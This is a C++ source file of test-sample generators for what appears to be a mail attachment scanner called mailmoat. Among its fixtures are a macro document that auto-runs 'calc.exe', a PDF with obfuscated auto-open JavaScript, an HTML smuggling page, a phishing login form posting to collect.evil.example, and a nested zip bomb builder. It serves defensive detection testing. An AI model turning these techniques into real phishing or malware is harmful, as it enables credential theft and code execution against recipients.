#include "samples.h"

#include <archive.h>
#include <archive_entry.h>

#include <cstring>
#include <stdexcept>

namespace mailmoat::test_samples {

std::string archive(const std::vector<Member>& members, const std::string& format, const std::string& password) {
  ::archive* a = archive_write_new();
  if (format == "7zip") archive_write_set_format_7zip(a);
  else if (format == "gzip") {  // one member, gzip-compressed, no archive around it
    archive_write_set_format_raw(a);
    archive_write_add_filter_gzip(a);
  } else archive_write_set_format_zip(a);
  if (!password.empty()) {
    if (archive_write_set_options(a, "zip:encryption=zipcrypt") != ARCHIVE_OK ||
        archive_write_set_passphrase(a, password.c_str()) != ARCHIVE_OK)
      throw std::runtime_error(std::string("libarchive encryption: ") + archive_error_string(a));
  }
  std::string out;
  auto writer = [](::archive*, void* user, const void* buf, size_t n) -> la_ssize_t {
    static_cast<std::string*>(user)->append(static_cast<const char*>(buf), n);
    return static_cast<la_ssize_t>(n);
  };
  archive_write_set_bytes_in_last_block(a, 1);
  archive_write_open(a, &out, nullptr, writer, nullptr);
  for (const auto& m : members) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, m.name.c_str());
    archive_entry_set_size(e, static_cast<la_int64_t>(m.content.size()));
    archive_entry_set_filetype(e, AE_IFREG);
    archive_entry_set_perm(e, 0644);
    archive_write_header(a, e);
    archive_write_data(a, m.content.data(), m.content.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  return out;
}

std::string eicar() { return R"(X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*)"; }

namespace {
void put16(std::string& b, std::size_t at, unsigned v) {
  b[at] = static_cast<char>(v & 0xFF);
  b[at + 1] = static_cast<char>((v >> 8) & 0xFF);
}
void put32(std::string& b, std::size_t at, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) b[at + i] = static_cast<char>((v >> (8 * i)) & 0xFF);
}
}  // namespace

std::string pe_executable() {
  std::string b(1024, '\0');
  b[0] = 'M';
  b[1] = 'Z';
  put32(b, 0x3C, 0x80);
  std::memcpy(b.data() + 0x80, "PE\0\0", 4);
  put16(b, 0x84, 0x14C);  // i386
  put16(b, 0x86, 1);
  put16(b, 0x94, 0xE0);   // optional header size
  put16(b, 0x96, 0x102);  // executable image
  put16(b, 0x98, 0x10B);  // PE32
  return b;
}

// [MS-CFB] version 3: 512-byte sectors. Sector 0 holds the FAT, sectors 1-2
// the directory, streams follow. Streams are padded to 4096 bytes so they live
// in the regular FAT (no mini stream needed).
std::string ole2(const std::vector<Member>& streams, const std::string& storage) {
  constexpr std::uint32_t kEnd = 0xFFFFFFFE, kFatSect = 0xFFFFFFFD, kFree = 0xFFFFFFFF, kNone = 0xFFFFFFFF;
  std::vector<std::string> data;
  for (const auto& s : streams) {
    std::string d = s.content;
    if (d.size() < 4096) d.resize(4096, '\0');
    d.resize((d.size() + 511) / 512 * 512, '\0');
    data.push_back(d);
  }
  std::string header(512, '\0');
  std::memcpy(header.data(), "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
  put16(header, 0x18, 0x3E);
  put16(header, 0x1A, 3);
  put16(header, 0x1C, 0xFFFE);
  put16(header, 0x1E, 9);
  put16(header, 0x20, 6);
  put32(header, 0x2C, 1);      // one FAT sector
  put32(header, 0x30, 1);      // directory starts at sector 1
  put32(header, 0x38, 4096);
  put32(header, 0x3C, kEnd);   // no mini FAT
  put32(header, 0x44, kEnd);   // no DIFAT sectors
  for (int i = 0; i < 109; ++i) put32(header, 0x4C + 4 * i, kFree);
  put32(header, 0x4C, 0);
  std::string fat(512, '\xFF');
  put32(fat, 0, kFatSect);
  put32(fat, 4, 2);
  put32(fat, 8, kEnd);
  std::uint32_t next = 3;
  std::vector<std::uint32_t> starts;
  for (const auto& d : data) {
    std::uint32_t n = static_cast<std::uint32_t>(d.size() / 512);
    starts.push_back(next);
    for (std::uint32_t k = 0; k < n; ++k) put32(fat, 4 * (next + k), k + 1 == n ? kEnd : next + k + 1);
    next += n;
  }
  std::string dir(1024, '\0');
  auto entry = [&](int index, const std::string& name, int type, std::uint32_t start, std::uint32_t size,
                   std::uint32_t child, std::uint32_t right) {
    std::size_t at = index * 128;
    for (std::size_t i = 0; i < name.size(); ++i) put16(dir, at + 2 * i, static_cast<unsigned char>(name[i]));
    put16(dir, at + 0x40, static_cast<unsigned>(2 * (name.size() + 1)));
    dir[at + 0x42] = static_cast<char>(type);
    dir[at + 0x43] = 1;
    put32(dir, at + 0x44, kNone);
    put32(dir, at + 0x48, right);
    put32(dir, at + 0x4C, child);
    put32(dir, at + 0x74, start);
    put32(dir, at + 0x78, size);
  };
  entry(0, "Root Entry", 5, kEnd, 0, 1, kNone);
  entry(1, storage, 1, 0, 0, streams.empty() ? kNone : 2, kNone);
  for (std::size_t i = 0; i < streams.size() && i < 6; ++i)
    entry(static_cast<int>(2 + i), streams[i].name, 2, starts[i], static_cast<std::uint32_t>(data[i].size()), kNone,
          i + 1 < streams.size() ? static_cast<std::uint32_t>(3 + i) : kNone);
  std::string out = header + fat + dir;
  for (const auto& d : data) out += d;
  return out;
}

std::string vba_module(const std::string& source) {
  // One compressed chunk of literal tokens: a flag byte 0x00 before every 8
  // literals. Valid [MS-OVBA] 2.4.1, and it splits words in the raw bytes, as
  // real compression does, so only a decompressing reader finds them.
  std::string chunk;
  for (std::size_t i = 0; i < source.size() && i < 4096; i += 8) {
    chunk.push_back('\0');
    chunk += source.substr(i, 8);
  }
  std::string out = "\x01";
  unsigned header = 0x8000 | 0x3000 | static_cast<unsigned>(chunk.size() + 2 - 3);
  out.push_back(static_cast<char>(header & 0xFF));
  out.push_back(static_cast<char>(header >> 8));
  return std::string(64, 'P') + out + chunk;  // preceded by "p-code", as in real modules
}

std::string docm_with_autoopen() {
  std::string vba = ole2({{"Module1", vba_module("Attribute VB_Name = \"Module1\"\r\nSub AutoOpen()\r\n  Shell \"calc.exe\"\r\nEnd Sub\r\n")},
                          {"dir", std::string(16, 'd')}});
  return archive({{"[Content_Types].xml",
                   "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                   "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
                   "vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"},
                  {"word/document.xml", "<w:document><w:body><w:p><w:r><w:t>Invoice</w:t></w:r></w:p></w:body></w:document>"},
                  {"word/vbaProject.bin", vba}});
}

std::string pdf_with_openaction_js() {
  return "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
         "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
         "3 0 obj << /Type /Action /S /J#61vaScript /JS (app.alert('x');) >> endobj\n"
         "trailer << /Root 1 0 R >>\n%%EOF\n";
}

std::string plain_pdf() {
  return "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> "
         "endobj\n4 0 obj << /Type /Annot /A << /S /URI /URI (https://example.org/) >> >> endobj\n"
         "trailer << /Root 1 0 R >>\n%%EOF\n";
}

std::string docx(const std::vector<std::string>& paragraphs) {
  std::string body;
  for (const auto& p : paragraphs) body += "<w:p><w:r><w:t xml:space=\"preserve\">" + p + "</w:t></w:r></w:p>";
  return archive({{"[Content_Types].xml",
                   "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                   "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
                   "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/></Types>"},
                  {"_rels/.rels", "<?xml version=\"1.0\"?><Relationships/>"},
                  {"word/document.xml", "<?xml version=\"1.0\"?><w:document><w:body>" + body + "</w:body></w:document>"}});
}

std::string pdf_with_text(const std::string& line) {
  std::string content = "BT /F1 12 Tf 72 720 Td (" + line + ") Tj ET";
  return "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n"
         "2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj\n"
         "3 0 obj << /Type /Page /Parent 2 0 R /Contents 4 0 R >> endobj\n"
         "4 0 obj << /Length " + std::to_string(content.size()) + " >>\nstream\n" + content + "\nendstream\nendobj\n"
         "trailer << /Root 1 0 R >>\n%%EOF\n";
}

std::string html_smuggling() {
  return "<!DOCTYPE html><html><body><script>\n"
         "var b64 = 'TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAA';\n"
         "var bytes = Uint8Array.from(atob(b64), c => c.charCodeAt(0));\n"
         "var blob = new Blob([bytes], {type: 'application/octet-stream'});\n"
         "var a = document.createElement('a'); a.href = URL.createObjectURL(blob);\n"
         "a.download = 'invoice.iso'; document.body.appendChild(a); a.click();\n"
         "</script></body></html>\n";
}

std::string html_credential_form() {
  return "<html><body><form method=\"post\" action=\"https://collect.evil.example/login.php\">"
         "<input name=\"user\"><input type=\"password\" name=\"pass\"><button>Sign in</button></form></body></html>";
}

std::string zip_bomb(int levels, std::size_t inner_bytes) {
  std::string inner = archive({{"zeros.bin", std::string(inner_bytes, '\0')}});
  for (int i = 1; i < levels; ++i) {
    std::vector<Member> copies;
    for (int k = 0; k < 10; ++k) copies.push_back({"layer" + std::to_string(i) + "-" + std::to_string(k) + ".zip", inner});
    inner = archive(copies);
  }
  return inner;
}

namespace {
std::string base64(const std::string& in) {
  static constexpr char kTable[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string out;
  std::size_t line = 0;
  for (std::size_t i = 0; i < in.size(); i += 3) {
    std::uint32_t n = static_cast<unsigned char>(in[i]) << 16;
    if (i + 1 < in.size()) n |= static_cast<unsigned char>(in[i + 1]) << 8;
    if (i + 2 < in.size()) n |= static_cast<unsigned char>(in[i + 2]);
    out.push_back(kTable[(n >> 18) & 63]);
    out.push_back(kTable[(n >> 12) & 63]);
    out.push_back(i + 1 < in.size() ? kTable[(n >> 6) & 63] : '=');
    out.push_back(i + 2 < in.size() ? kTable[n & 63] : '=');
    if ((line += 4) >= 76) {
      out += "\r\n";
      line = 0;
    }
  }
  return out + "\r\n";
}

std::string percent_encode(const std::string& s) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : s) {
    if (std::isalnum(c) || c == '.' || c == '-' || c == '_') out.push_back(static_cast<char>(c));
    else {
      out.push_back('%');
      out.push_back(kHex[c >> 4]);
      out.push_back(kHex[c & 15]);
    }
  }
  return out;
}

bool ascii(const std::string& s) {
  for (unsigned char c : s)
    if (c >= 0x80 || c < 0x20) return false;
  return true;
}
}  // namespace

std::string message(const std::string& body, const std::vector<Attachment>& attachments, const std::string& from,
                    const std::string& to, const std::string& subject) {
  const std::string boundary = "=_mailmoat_test_boundary";
  std::string m = "From: <" + from + ">\r\nTo: <" + to + ">\r\nSubject: " + subject +
                  "\r\nMessage-ID: <" + std::to_string(reinterpret_cast<std::uintptr_t>(&body) % 100000) +
                  ".test@example.org>\r\nDate: Sat, 28 Nov 2026 12:00:00 +0000\r\nMIME-Version: 1.0\r\n"
                  "Content-Type: multipart/mixed; boundary=\"" + boundary + "\"\r\n\r\n";
  m += "--" + boundary + "\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n" + body + "\r\n";
  for (const auto& a : attachments) {
    std::string param = ascii(a.name) ? "filename=\"" + a.name + "\"" : "filename*=UTF-8''" + percent_encode(a.name);
    m += "--" + boundary + "\r\nContent-Type: " + a.content_type + "\r\nContent-Disposition: attachment; " + param +
         "\r\nContent-Transfer-Encoding: base64\r\n\r\n" + base64(a.content);
  }
  m += "--" + boundary + "--\r\n";
  return m;
}

}  // namespace mailmoat::test_samples
